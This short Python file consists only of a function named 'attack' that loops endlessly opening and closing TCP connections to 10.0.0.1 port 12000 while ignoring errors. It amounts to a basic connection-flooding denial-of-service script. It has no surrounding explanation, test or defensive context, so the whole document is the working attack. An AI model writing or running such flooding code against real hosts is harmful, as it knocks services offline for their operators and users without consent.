import socket


def attack():
    while True:
        try:
            socket.create_connection(("10.0.0.1", 12000)).close()
        except OSError:
            pass
